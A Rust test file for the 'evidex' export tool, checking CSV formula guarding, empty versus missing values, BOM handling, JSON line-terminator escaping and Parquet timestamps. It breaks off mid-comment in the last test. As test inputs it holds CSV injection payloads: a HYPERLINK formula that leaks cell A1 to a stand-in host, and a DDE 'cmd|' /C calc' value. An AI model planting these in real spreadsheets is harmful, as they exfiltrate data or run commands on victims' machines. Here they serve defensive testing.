//! End-to-end tests of output fidelity through the `evidex` binary (issue 10, output
//! side): every value is read back with a standard reader (the `csv` crate,
//! serde_json, the Parquet reader) and must be what was ingested — the CSV formula
//! guard neutralises formulas behind leading whitespace, control and invisible
//! characters but leaves plain numbers alone; CSV tells an empty string from a missing
//! value; the optional UTF-8 byte-order mark; JSON and NDJSON hold no raw line
//! terminator; Parquet timestamps are UTC microseconds, from SQL definitions too.
//! Every artifact must also pass `evidex verify`.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use serde_json::{Value, json};

mod common;

const DAY: &str = "2026-03-02";

/// The example of the issue: a formula behind one space.
const HYPERLINK: &str = r#"=HYPERLINK("http://x.example/?q="&A1,"open")"#;

/// Characters in front of a formula that importers trim (or readers do not see):
/// ASCII whitespace and C0 controls, DEL, C1 controls, Unicode spaces, line and
/// paragraph separators, zero-width and bidi characters, the byte-order mark.
const LEADS: &[&str] = &[
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u{0}",
    "\u{1}",
    "\u{b}",
    "\u{c}",
    "\u{1b}",
    "\u{1f}",
    "\u{7f}",
    "\u{85}",
    "\u{9f}",
    "\u{a0}",
    "\u{1680}",
    "\u{2002}",
    "\u{2009}",
    "\u{200a}",
    "\u{2028}",
    "\u{2029}",
    "\u{202f}",
    "\u{205f}",
    "\u{3000}",
    "\u{180e}",
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{200e}",
    "\u{200f}",
    "\u{202e}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    " \u{feff}\u{a0}\t\u{3000}",
];

/// Runs evidex without redaction rules, so values come back byte for byte.
fn run(data: &Path, envs: &[(&str, &str)], args: &[&str]) -> Output {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_evidex"));
    cmd.arg("--data")
        .arg(data)
        .args(args)
        .env_remove("EVIDEX_DATA")
        .env("EVIDEX_REDACTION__DETECTORS", "[]");
    for (k, v) in envs {
        cmd.env(k, v);
    }
    cmd.output().expect("evidex runs")
}

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "evidex failed ({:?}):\nstdout: {}\nstderr: {}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// An event on [`DAY`] with every required field, `n` seconds after 10:00 UTC, and
/// the fields of `extra` on top.
fn event(id: &str, n: u32, extra: Value) -> Value {
    let mut e = json!({
        "id": id,
        "timestamp": format!("{DAY}T10:{:02}:{:02}.123456Z", n / 60, n % 60),
        "decision": "block",
        "severity": "high",
        "policy": "pii-guard",
        "gateway_id": "gw-eu-1",
        "consumer_group": "claims",
    });
    for (k, v) in extra.as_object().unwrap() {
        e[k] = v.clone();
    }
    e
}

/// A data directory holding `events` (and `escalations`), and a folder for exports.
struct Lake {
    dir: tempfile::TempDir,
    data: PathBuf,
    out: PathBuf,
}

fn ndjson(rows: &[Value]) -> String {
    rows.iter().map(|r| format!("{r}\n")).collect()
}

fn lake(events: &[Value], escalations: &[Value]) -> Lake {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).unwrap();
    let src = dir.path().join("events.ndjson");
    std::fs::write(&src, ndjson(events)).unwrap();
    let text =
        String::from_utf8(ok(run(&data, &[], &["ingest", src.to_str().unwrap()])).stdout).unwrap();
    assert!(text.contains(&events.len().to_string()), "{text}");
    if !escalations.is_empty() {
        let esc = dir.path().join("escalations.ndjson");
        std::fs::write(&esc, ndjson(escalations)).unwrap();
        ok(run(
            &data,
            &[],
            &["ingest", "--dataset", "escalations", esc.to_str().unwrap()],
        ));
    }
    Lake { dir, data, out }
}

impl Lake {
    /// Exports [`DAY`] as `format` named `name` with `extra` flags; the artifact's path
    /// (`NAME.FORMAT`, or `NAME.zip`).
    fn export(&self, format: &str, extra: &[&str], name: &str) -> PathBuf {
        self.export_env(&[], format, extra, name)
    }

    fn export_env(
        &self,
        envs: &[(&str, &str)],
        format: &str,
        extra: &[&str],
        name: &str,
    ) -> PathBuf {
        let mut args = vec![
            "export", "--from", DAY, "--to", DAY, "--format", format, "--name", name,
        ];
        args.extend(extra);
        args.extend(["--output", self.out.to_str().unwrap()]);
        ok(run(&self.data, envs, &args));
        let single = self.out.join(format!("{name}.{format}"));
        let zip = self.out.join(format!("{name}.zip"));
        assert!(single.exists() != zip.exists(), "{name}: one artifact");
        if single.exists() { single } else { zip }
    }

    /// A SQL definition file.
    fn sql(&self, name: &str, sql: &str) -> String {
        let path = self.dir.path().join(format!("{name}.sql"));
        std::fs::write(&path, sql).unwrap();
        path.to_str().unwrap().to_string()
    }

    /// `evidex verify` accepts the artifact.
    fn verify(&self, artifact: &Path) {
        ok(run(
            &self.data,
            &[],
            &["verify", artifact.to_str().unwrap()],
        ));
    }
}

/// The files of an artifact by name: a ZIP's entries, or the single file.
fn files(artifact: &Path) -> BTreeMap<String, Vec<u8>> {
    let name = artifact.file_name().unwrap().to_str().unwrap().to_string();
    if !name.ends_with(".zip") {
        return BTreeMap::from([(name, std::fs::read(artifact).unwrap())]);
    }
    let mut zip = zip::ZipArchive::new(std::fs::File::open(artifact).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut entry = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            (entry.name().to_string(), bytes)
        })
        .collect()
}

/// The data files of an artifact with extension `ext`, in name order.
fn data_files(artifact: &Path, ext: &str) -> Vec<(String, Vec<u8>)> {
    files(artifact)
        .into_iter()
        .filter(|(n, _)| n.ends_with(&format!(".{ext}")))
        .collect()
}

/// The manifest of an artifact (inside a ZIP, or beside a single file).
fn manifest(artifact: &Path) -> Value {
    let name = artifact.file_name().unwrap().to_str().unwrap();
    let bytes = if name.ends_with(".zip") {
        files(artifact).remove("manifest.json").unwrap()
    } else {
        std::fs::read(artifact.with_file_name(format!("{name}.manifest.json"))).unwrap()
    };
    serde_json::from_slice(&bytes).unwrap()
}

/// CSV rows as (header → value) maps, read by the `csv` crate.
fn csv_rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(bytes);
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(r.len(), headers.len());
            headers
                .iter()
                .cloned()
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect()
}

/// CSV rows keyed by their `id` column.
fn csv_by_id(bytes: &[u8]) -> BTreeMap<String, BTreeMap<String, String>> {
    csv_rows(bytes)
        .into_iter()
        .map(|r| (r["id"].clone(), r))
        .collect()
}

fn guarded(s: &str) -> String {
    format!("'{s}")
}

#[test]
fn formulas_behind_trimmed_characters_are_guarded_in_every_text_column() {
    let mut events = Vec::new();
    // (id, value, whether the guard must prefix it)
    let mut cases: Vec<(String, String, bool)> = Vec::new();
    cases.push(("issue-example".into(), format!(" {HYPERLINK}"), true));
    for (i, lead) in LEADS.iter().enumerate() {
        for (j, start) in ["=", "+", "-", "@"].iter().enumerate() {
            let rest = &HYPERLINK[1..];
            cases.push((
                format!("f-{i:02}-{j}"),
                format!("{lead}{start}{rest}"),
                true,
            ));
        }
        // Trimmed characters in front of text are no formula; TAB and CR first are
        // guarded whatever follows (OWASP).
        cases.push((
            format!("t-{i:02}"),
            format!("{lead}plain text"),
            lead.starts_with(['\t', '\r']),
        ));
    }
    for (k, text) in ["plain", "Zürich =1", "中文 @x", "a-b", "'=quoted"]
        .iter()
        .enumerate()
    {
        cases.push((format!("s-{k}"), text.to_string(), false));
    }
    for (n, (id, value, _)) in cases.iter().enumerate() {
        events.push(event(
            id,
            n as u32,
            json!({"input": value, "output": value, "reason_code": value, "consumer": value,
                   "policy": value}),
        ));
    }
    let l = lake(&events, &[]);
    let columns = ["input", "output", "reason_code", "consumer", "policy"];

    let check = |bytes: &[u8], guard: bool, what: &str| {
        let rows = csv_by_id(bytes);
        for (id, value, must_guard) in &cases {
            let Some(row) = rows.get(id) else { continue };
            let want = if guard && *must_guard {
                guarded(value)
            } else {
                value.clone()
            };
            for c in columns {
                assert_eq!(row[c], want, "{what}: {id} {c} {value:?}");
            }
        }
        rows.len()
    };

    let csv = l.export("csv", &[], "guarded");
    let bytes = std::fs::read(&csv).unwrap();
    assert_eq!(check(&bytes, true, "single file"), cases.len());
    // The issue's example, byte for byte.
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.contains(r#""' =HYPERLINK(""http://x.example/?q=""&A1,""open"")""#));
    let m = manifest(&csv);
    assert_eq!(m["escaping"]["csv_formula_guard"], true);
    let rule = m["escaping"]["csv_formula_guard_rule"].as_str().unwrap();
    for needle in [
        "OWASP",
        "=, +, - or @",
        "White_Space",
        "U+FEFF",
        "plain decimal number",
    ] {
        assert!(rule.contains(needle), "{needle}: {rule}");
    }
    l.verify(&csv);

    // The same in every part of a ZIP.
    let zip = l.export("csv", &["--split-rows", "40"], "parts");
    let parts = data_files(&zip, "csv");
    assert_eq!(parts.len(), cases.len().div_ceil(40));
    let total: usize = parts
        .iter()
        .map(|(name, bytes)| check(bytes, true, name))
        .sum();
    assert_eq!(total, cases.len());
    l.verify(&zip);

    // Turned off, every value is written as it is.
    let raw = l.export("csv", &["--no-formula-guard"], "raw");
    assert_eq!(
        check(&std::fs::read(&raw).unwrap(), false, "no guard"),
        cases.len()
    );
    let m = manifest(&raw);
    assert_eq!(m["escaping"]["csv_formula_guard"], false);
    assert!(m["escaping"].get("csv_formula_guard_rule").is_none());
    l.verify(&raw);

    // The guard is for spreadsheets only: NDJSON keeps every value.
    let nd = l.export("ndjson", &[], "nd");
    let text = std::fs::read_to_string(&nd).unwrap();
    let mut n = 0;
    for line in text.split('\n').filter(|l| !l.is_empty()) {
        let v: Value = serde_json::from_str(line).unwrap();
        let (_, value, _) = cases.iter().find(|c| c.0 == v["id"]).unwrap();
        assert_eq!(v["input"], *value);
        n += 1;
    }
    assert_eq!(n, cases.len());
}

#[test]
fn plain_numbers_are_written_as_numbers_and_expressions_stay_guarded() {
    // (value as sent, its text, guarded?)
    let cases: Vec<(Value, &str, bool)> = vec![
        (json!(-32602), "-32602", false),
        (json!("-32600"), "-32600", false),
        (json!(-1.5), "-1.5", false),
        (json!("-12"), "-12", false),
        (json!("-1.5"), "-1.5", false),
        (json!("-1e5"), "-1e5", false),
        (json!("-2.5E-3"), "-2.5E-3", false),
        (json!("+3"), "+3", false),
        (json!("-.5"), "-.5", false),
        (json!("-0"), "-0", false),
        (json!("+15550100"), "+15550100", false),
        (json!("-1+2"), "-1+2", true),
        (json!("-A1"), "-A1", true),
        (json!("+1 (555) 010-9999"), "+1 (555) 010-9999", true),
        (json!("-"), "-", true),
        (json!("--5"), "--5", true),
        (json!("-1e"), "-1e", true),
        (json!("- 1"), "- 1", true),
        (json!("-5%"), "-5%", true),
        (json!("+-1"), "+-1", true),
        (json!("-1 "), "-1 ", true),
        (json!(" -12"), " -12", true),
        (
            json!("-2+3+cmd|' /C calc'!A0"),
            "-2+3+cmd|' /C calc'!A0",
            true,
        ),
    ];
    let events: Vec<Value> = cases
        .iter()
        .enumerate()
        .map(|(i, (v, text, _))| {
            event(
                &format!("n-{i:02}"),
                i as u32,
                json!({"reason_code": v, "input": text, "consumer": text}),
            )
        })
        .collect();
    let l = lake(&events, &[]);
    let want = |i: usize| {
        let (_, text, guard) = &cases[i];
        if *guard {
            guarded(text)
        } else {
            text.to_string()
        }
    };

    let csv = l.export("csv", &[], "numbers");
    let rows = csv_by_id(&std::fs::read(&csv).unwrap());
    assert_eq!(rows.len(), cases.len());
    for i in 0..cases.len() {
        let row = &rows[&format!("n-{i:02}")];
        for c in ["reason_code", "input", "consumer"] {
            assert_eq!(row[c], want(i), "{c} of {:?}", cases[i].0);
        }
    }
    // The raw bytes of the issue's example: a bare number, not quoted, no quote mark.
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.contains(",-32602,"), "{text}");
    assert!(!text.contains("'-32602") && !text.contains("'-32600"));
    let rule = manifest(&csv)["escaping"]["csv_formula_guard_rule"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(rule.contains("-12, +3, -1.5"), "{rule}");
    l.verify(&csv);

    // SQL definitions: text columns follow the same rule, numeric columns are numbers.
    let sql = l.sql(
        "numbers",
        "SELECT id, reason_code, -5 AS minus_five, CAST(-1.5 AS DOUBLE) AS minus_one_half, \
         concat('-', id) AS expression FROM events",
    );
    let csv = l.export("csv", &["--sql", &sql], "sql-numbers");
    let rows = csv_by_id(&std::fs::read(&csv).unwrap());
    assert_eq!(rows.len(), cases.len());
    for i in 0..cases.len() {
        let id = format!("n-{i:02}");
        let row = &rows[&id];
        assert_eq!(row["reason_code"], want(i));
        assert_eq!(row["minus_five"], "-5");
        assert_eq!(row["minus_one_half"], "-1.5");
        assert_eq!(row["expression"], format!("'-{id}"));
    }
    l.verify(&csv);
}

/// The raw text of each CSV field of each record (the `csv` crate finds the records;
/// their fields are split at commas, which the test values do not hold).
fn raw_fields(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let mut record = csv::ByteRecord::new();
    let mut starts = Vec::new();
    while reader.read_byte_record(&mut record).unwrap() {
        starts.push(record.position().unwrap().byte() as usize);
    }
    starts.push(bytes.len());
    starts
        .windows(2)
        .map(|w| {
            // A record's position is just past the previous record's CR, so its
            // slice runs from that LF to its own CR.
            let line = std::str::from_utf8(&bytes[w[0]..w[1]]).unwrap();
            let line = line.strip_prefix('\n').unwrap_or(line);
            let line = line
                .strip_suffix("\r\n")
                .or(line.strip_suffix('\r'))
                .unwrap();
            line.split(',').map(String::from).collect()
        })
        .collect()
}

#[test]
fn empty_strings_and_missing_values_read_back_distinctly() {
    let events = vec![
        event(
            "e-empty",
            1,
            json!({"reason_code": "", "consumer": "", "input": "", "model": ""}),
        ),
        event("e-missing", 2, json!({})),
        event(
            "e-value",
            3,
            json!({"reason_code": "R1", "consumer": "c", "input": "i", "model": "m"}),
        ),
    ];
    let l = lake(&events, &[]);
    let columns = ["reason_code", "consumer", "input", "model"];

    let csv = l.export("csv", &[], "empties");
    let bytes = std::fs::read(&csv).unwrap();
    // A standard reader sees three records whose fields are all empty strings...
    let rows = csv_by_id(&bytes);
    assert_eq!(rows.len(), 3);
    for c in columns {
        assert_eq!(rows["e-empty"][c], "");
        assert_eq!(rows["e-missing"][c], "");
    }
    // ...and the raw fields tell them apart: `""` is the empty string, nothing is a
    // missing value (as PostgreSQL's COPY CSV writes them).
    let raw = raw_fields(&bytes);
    let header = &raw[0];
    for c in columns {
        let k = header.iter().position(|h| h == c).unwrap();
        let by_id = |id: &str| raw.iter().find(|r| r[0] == id).unwrap()[k].clone();
        assert_eq!(by_id("e-empty"), "\"\"", "{c}");
        assert_eq!(by_id("e-missing"), "", "{c}");
        assert_eq!(by_id("e-value"), rows["e-value"][c], "{c}");
    }
    // Every other missing column is empty too, and no number became `""`.
    let k = header.iter().position(|h| h == "cost_usd").unwrap();
    assert!(raw[1..].iter().all(|r| r[k].is_empty()));
    let null_rule = manifest(&csv)["escaping"]["csv_null"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(null_rule.contains("PostgreSQL"), "{null_rule}");
    l.verify(&csv);

    // JSON, NDJSON and Parquet keep the difference as "" and null.
    for format in ["json", "ndjson"] {
        let path = l.export(format, &[], &format!("empties-{format}"));
        let text = std::fs::read_to_string(&path).unwrap();
        let records: Vec<Value> = if format == "json" {
            serde_json::from_str(&text).unwrap()
        } else {
            text.lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        for c in columns {
            assert_eq!(records[0][c], "", "{format} {c}");
            assert_eq!(records[1][c], Value::Null, "{format} {c}");
        }
        l.verify(&path);
    }
    let pq = l.export("parquet", &[], "empties-pq");
    let batches = read_parquet(&std::fs::read(&pq).unwrap());
    for c in columns {
        let col = batches[0].column_by_name(c).unwrap();
        let col = col.as_string::<i32>();
        assert!(col.is_valid(0) && col.value(0).is_empty(), "{c}");
        assert!(col.is_null(1), "{c}");
    }
    l.verify(&pq);

    // SQL definitions: the same, and a one-column file keeps every record (an empty
    // line would be skipped by readers, and by `evidex verify`'s count).
    let sql = l.sql("two", "SELECT id, reason_code FROM events");
    let csv = l.export("csv", &["--sql", &sql], "sql-two");
    let text = std::fs::read_to_string(&csv).unwrap();
    assert_eq!(
        text,
        "id,reason_code\r\ne-empty,\"\"\r\ne-missing,\r\ne-value,R1\r\n"
    );
    l.verify(&csv);
    let sql = l.sql("one", "SELECT reason_code FROM events ORDER BY id");
    let csv = l.export("csv", &["--sql", &sql], "sql-one");
    let rows = csv_rows(&std::fs::read(&csv).unwrap());
    assert_eq!(rows.len(), 3);
    assert_eq!(manifest(&csv)["total_rows"], 3);
    l.verify(&csv);
}

fn has_bom(bytes: &[u8]) -> bool {
    bytes.starts_with(b"\xEF\xBB\xBF")
}

#[test]
fn csv_byte_order_mark_for_excel() {
    let events = vec![
        event(
            "u-1",
            1,
            json!({"policy": "Zürich-Finanz", "input": "Grüße — Привет", "consumer": "Zürich-Finanz"}),
        ),
        event("u-2", 2, json!({"input": "Grüße — Привет, \"quoted\""})),
        event("u-3", 3, json!({"input": "=1+1"})),
    ];
    let escalation = json!({"id": "x-1", "event_id": "u-1", "status": "open",
                            "at": format!("{DAY}T11:00:00Z"), "actor": "Zürich-Finanz",
                            "note": "Grüße — Привет"});
    let l = lake(&events, &[escalation]);
    let check = |bytes: &[u8], what: &str| {
        let rows = csv_by_id(bytes);
        assert!(
            rows.contains_key("u-1"),
            "{what}: the BOM is not part of the header"
        );
        assert_eq!(rows["u-1"]["policy"], "Zürich-Finanz");
        assert_eq!(rows["u-1"]["input"], "Grüße — Привет");
        assert_eq!(rows["u-2"]["input"], "Grüße — Привет, \"quoted\"");
        assert_eq!(rows["u-3"]["input"], "'=1+1");
        // One mark, at the start only.
        let text = std::str::from_utf8(bytes).unwrap();
        assert_eq!(text.matches('\u{feff}').count(), 1, "{what}");
        assert!(text.starts_with("\u{feff}id,timestamp,"), "{what}");
    };

    // Off by default.
    let plain = l.export("csv", &[], "plain");
    let bytes = std::fs::read(&plain).unwrap();
    assert!(!has_bom(&bytes) && bytes.starts_with(b"id,"));
    assert_eq!(manifest(&plain)["escaping"]["csv_bom"], false);

    // The flag, the environment and the configuration file turn it on.
    let flag = l.export("csv", &["--csv-bom"], "flag");
    check(&std::fs::read(&flag).unwrap(), "flag");
    assert_eq!(manifest(&flag)["escaping"]["csv_bom"], true);
    l.verify(&flag);
    let env = l.export_env(&[("EVIDEX_EXPORT__CSV_BOM", "true")], "csv", &[], "env");
    check(&std::fs::read(&env).unwrap(), "env");
    l.verify(&env);
    let config = l.dir.path().join("evidex.toml");
    std::fs::write(&config, "[export]\ncsv_bom = true\n").unwrap();
    let file = l.export(
        "csv",
        &["--config", config.to_str().unwrap()],
        "config-file",
    );
    check(&std::fs::read(&file).unwrap(), "config file");

    // Every CSV of a ZIP starts with it: each part and each included dataset.
    let zip = l.export(
        "csv",
        &["--csv-bom", "--split-rows", "1", "--include", "escalations"],
        "zipped",
    );
    let csvs = data_files(&zip, "csv");
    assert_eq!(csvs.len(), 4, "three parts and escalations");
    let mut part_rows = 0;
    for (name, bytes) in &csvs {
        assert!(has_bom(bytes), "{name}");
        assert_eq!(
            String::from_utf8_lossy(bytes).matches('\u{feff}').count(),
            1
        );
        if name.starts_with("events-") {
            let rows = csv_rows(bytes);
            assert_eq!(rows.len(), 1, "{name}");
            assert!(rows[0]["id"].starts_with("u-"), "{name}");
            part_rows += 1;
        } else {
            let rows = csv_rows(bytes);
            assert_eq!(rows.len(), 1);
            assert_eq!(rows[0]["id"], "x-1");
            assert_eq!(rows[0]["actor"], "Zürich-Finanz");
            assert_eq!(rows[0]["note"], "Grüße — Привет");
        }
    }
    assert_eq!(part_rows, 3);
    assert_eq!(manifest(&zip)["escaping"]["csv_bom"], true);
    l.verify(&zip);

    // Other formats never get one.
    let nd = l.export("ndjson", &["--csv-bom"], "nd");
    assert!(std::fs::read(&nd).unwrap().starts_with(b"{\"id\":"));
    assert!(manifest(&nd)["escaping"].get("csv_bom").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_bom_in_the_api_body() {
    let events = vec![event("a-1", 1, json!({"policy": "Zürich-Finanz"}))];
    let l = lake(&events, &[]);
    let compliance = common::token(&l.data, "compliance");
    let server = common::Server::start(&l.data, 1, &[("EVIDEX_REDACTION__DETECTORS", "[]")]);
    let c = common::Client::new(&server.base);
    let download = async |body: Value| {
        let r = c.post("/v1/exports", &compliance, &body).await;
        assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
        let id = r.json()["id"].as_str().unwrap().to_string();
        let job = c.wait(&id, &compliance, Duration::from_secs(60)).await;
        assert_eq!(job["status"], "completed", "{job}");
        let dl = c
            .get(&format!("/v1/exports/{id}/download"), &compliance)
            .await;
        assert_eq!(dl.status, 200);
        dl.body
    };
    let base = json!({"name": "bom", "from": DAY, "to": DAY, "format": "csv"});
    let mut with = base.clone();
    with["csv_bom"] = json!(true);
    let bytes = download(with).await;
    assert!(has_bom(&bytes));
    assert_eq!(csv_by_id(&bytes)["a-1"]["policy"], "Zürich-Finanz");
    let bytes = download(base).await;
    assert!(!has_bom(&bytes) && bytes.starts_with(b"id,"));
    let mut refused = json!({"name": "bom", "from": DAY, "to": DAY});
    refused["csv_bom"] = json!("yes");
    let r = c.post("/v1/exports", &compliance, &refused).await;
    assert_eq!(r.status, 400, "{}", String::from_utf8_lossy(&r.body));
}

/// How many characters of `text` some reader ends a line at: LF, CR, VT, FF, the C0
/// separators FS/GS/RS, NEL, LINE SEPARATOR, PARAGRAPH SEPARATOR (Python's
/// `str.splitlines`; ECMAScript's LineTerminator).
fn line_ends(text: &str) -> usize {
    text.chars()
        .filter(|c| {
            matches!(
                c,
                '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}'
                    ..='\u{1e}' | '\u{85}' | '\u{2028}' | '\u{2029}'
            )
        })
        .count()
}

#[test]
fn json_and_ndjson_hold_no_raw_line_terminator() {
    let metadata = json!({
        "note": "a\u{2028}b",
        "nel": "x\u{85}y",
        "k\u{2029}ey": ["\u{2028}", 1, {"deep": "p\u{2029}q\u{b}r\u{c}s"}],
        "dash": "— “quoted” € §",
    });
    let policies = json!([{"name": "pii\u{2028}guard", "result": "block", "latency_ms": 3,
                           "entities_found": ["first\u{2029}second"]}]);
    let events = vec![
        event(
            "l-1",
            1,
            json!({
                "input": "first line\u{2028}second line",
                "output": "para\u{2029}graph",
                "reason_code": "nel\u{85}here",
                "consumer": "vt\u{b}ff\u{c}",
                "user_id": "fs\u{1c}gs\u{1d}rs\u{1e}",
                "model": "crlf\r\nlf\ncr\r",
                "metadata": metadata,
                "policies_evaluated": policies,
            }),
        ),
        event(
            "l-2",
            2,
            json!({"input": "dash — “quoted” € §\u{2027}\u{202a}", "metadata": {"a": 1}}),
        ),
        event("l-3", 3, json!({"input": "\u{2028}\u{2029}\u{85}"})),
    ];
    let l = lake(&events, &[]);
    let fields = [
        "input",
        "output",
        "reason_code",
        "consumer",
        "user_id",
        "model",
        "metadata",
        "policies_evaluated",
    ];
    let check_records = |records: &[Value], what: &str| {
        assert_eq!(records.len(), events.len(), "{what}");
        for (got, want) in records.iter().zip(&events) {
            assert_eq!(got["id"], want["id"], "{what}");
            for f in fields {
                if got.get(f).is_some() {
                    let want = want.get(f).cloned().unwrap_or(Value::Null);
                    assert_eq!(got[f], want, "{what}: {} {f}", got["id"]);
                }
            }
        }
    };
    let check_ndjson = |bytes: &[u8], what: &str| {
        let text = std::str::from_utf8(bytes).unwrap();
        // One line end per record, whichever characters a reader splits at.
        let n = text.lines().count();
        assert_eq!(line_ends(text), n, "{what}: {text:?}");
        assert!(text.ends_with('\n'));
        text.lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .collect::<Vec<_>>()
    };

    let nd = l.export("ndjson", &[], "lines");
    let bytes = std::fs::read(&nd).unwrap();
    let records = check_ndjson(&bytes, "ndjson");
    check_records(&records, "ndjson");
    let text = String::from_utf8(bytes).unwrap();
    for escape in [
        r"\u2028", r"\u2029", r"\u0085", r"\u000b", r"\u000c", r"\u001c",
    ] {
        assert!(text.contains(escape), "{escape}");
    }
    // Everything else stays as it was sent.
    assert!(text.contains("— “quoted” € §\u{2027}\u{202a}"));
    let m = manifest(&nd);
    let rule = m["escaping"]["json_line_terminators"].as_str().unwrap();
    assert!(rule.contains("U+2028"), "{rule}");
    l.verify(&nd);

    // JSON: one document, no raw terminator inside a value.
    let js = l.export("json", &[], "array");
    let text = std::fs::read_to_string(&js).unwrap();
    let records: Vec<Value> = serde_json::from_str(&text).unwrap();
    check_records(&records, "json");
    assert_eq!(line_ends(&text), text.matches('\n').count());
    l.verify(&js);

    // Every part of a ZIP.
    let zip = l.export("ndjson", &["--split-rows", "1"], "parts");
    let parts = data_files(&zip, "ndjson");
    assert_eq!(parts.len(), 3);
    let records: Vec<Value> = parts
        .iter()
        .flat_map(|(name, bytes)| check_ndjson(bytes, name))
        .collect();
    check_records(&records, "zip");
    l.verify(&zip);

    // SQL definitions: text and nested JSON columns they pass through.
    let sql = l.sql(
        "lines",
        "SELECT id, input, output, reason_code, consumer, user_id, model, metadata, \
         policies_evaluated, concat(input, '\u{2028}!') AS derived FROM events ORDER BY id",
    );
    for format in ["ndjson", "json"] {
        let path = l.export(format, &["--sql", &sql], &format!("sql-{format}"));
        let bytes = std::fs::read(&path).unwrap();
        let records = if format == "ndjson" {
            check_ndjson(&bytes, "sql")
        } else {
            let text = std::str::from_utf8(&bytes).unwrap();
            assert_eq!(line_ends(text), text.matches('\n').count());
            serde_json::from_str(text).unwrap()
        };
        check_records(&records, format);
        assert!(records[0]["metadata"].is_object(), "stays nested");
        assert_eq!(
            records[0]["derived"],
            "first line\u{2028}second line\u{2028}!"
        );
        l.verify(&path);
    }
}

fn read_parquet(bytes: &[u8]) -> Vec<reexports::RecordBatch> {
    use reexports::ParquetRecordBatchReaderBuilder;
    ParquetRecordBatchReaderBuilder::try_new(bytes::Bytes::from(bytes.to_vec()))
        .unwrap()
        .build()
        .unwrap()
        .map(|b| b.unwrap())
        .collect()
}

use reexports::{Array, AsArray};

mod reexports {
    pub use evidex_engine::arrow::array::{Array, AsArray};
    pub use evidex_engine::arrow::datatypes::{DataType, TimeUnit, TimestampMicrosecondType};
    pub use evidex_engine::arrow::record_batch::RecordBatch;
    pub use evidex_engine::parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
    pub use evidex_engine::parquet::basic::{LogicalType, TimeUnit as ParquetUnit};
}

/// Checks that every timestamp column of a Parquet file is stored as
/// `TIMESTAMP(isAdjustedToUTC = true, MICROS)` and read back as
/// `Timestamp(Microsecond, "UTC")`; returns each timestamp column's values as RFC 3339
/// UTC text with microseconds, by column name.
fn parquet_timestamps(bytes: &[u8], what: &str) -> BTreeMap<String, Vec<Option<String>>> {
    use reexports::*;
    let builder =
        ParquetRecordBatchReaderBuilder::try_new(bytes::Bytes::from(bytes.to_vec())).unwrap();
    let schema = builder.schema().clone();
    let descr = builder.parquet_schema();
    let mut out = BTreeMap::new();
    for leaf in descr.columns() {
        if let Some(LogicalType::Timestamp { .. }) = leaf.logical_type_ref() {
            assert_eq!(
                leaf.logical_type_ref(),
                Some(&LogicalType::timestamp(true, ParquetUnit::MICROS)),
                "{what}: {}",
                leaf.path()
            );
        }
    }
    let batches: Vec<RecordBatch> = builder.build().unwrap().map(|b| b.unwrap()).collect();
    for (i, field) in schema.fields().iter().enumerate() {
        let DataType::Timestamp(..) = field.data_type() else {
            continue;
        };
        assert_eq!(
            field.data_type(),
            &DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into())),
            "{what}: {}",
            field.name()
        );
        let mut values = Vec::new();
        for b in &batches {
            let col = b.column(i).as_primitive::<TimestampMicrosecondType>();
            for r in 0..col.len() {
                values.push(col.is_valid(r).then(|| {
                    chrono::DateTime::from_timestamp_micros(col.value(r))
                        .unwrap()
                        .format("%Y-%m-%dT%H:%M:%S%.6fZ")
                        .to_string()
                }));
            }
        }
        out.insert(field.name().clone(), values);
    }
    out
}

#[test]
fn parquet_timestamps_are_utc_microseconds_sql_definitions_included() {
    let times = [
        "2026-03-02T00:00:00.000001Z",
        "2026-03-02T10:00:00.123456Z",
        "2026-03-02T23:59:59.999999Z",
    ];
    let events: Vec<Value> = times
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let mut e = event(&format!("p-{i}"), 0, json!({}));
            e["timestamp"] = json!(t);
            e
        })
        .collect();
    let escalation = json!({"id": "x-1", "event_id": "p-1", "status": "open",
                            "at": "2026-03-02T11:00:00.5Z", "actor": "a"});
    let l = lake(&events, &[escalation]);
    let ts = |values: &[&str]| -> Vec<Option<String>> {
        values.iter().map(|v| Some(v.to_string())).collect()
    };

    // The stored datasets, events and an included one.
    let zip = l.export("parquet", &["--include", "escalations"], "stored");
    let files = data_files(&zip, "parquet");
    let events_pq = &files.iter().find(|f| f.0.starts_with("events")).unwrap().1;
    assert_eq!(
        parquet_timestamps(events_pq, "events")["timestamp"],
        ts(&times)
    );
    let esc = &files
        .iter()
        .find(|f| f.0.starts_with("escalations"))
        .unwrap()
        .1;
    assert_eq!(
        parquet_timestamps(esc, "escalations")["at"],
        ts(&["2026-03-02T11:00:00.500000Z"])
    );
    l.verify(&zip);

    // A SQL definition: naive (nanosecond) casts, other timezones and units, nested
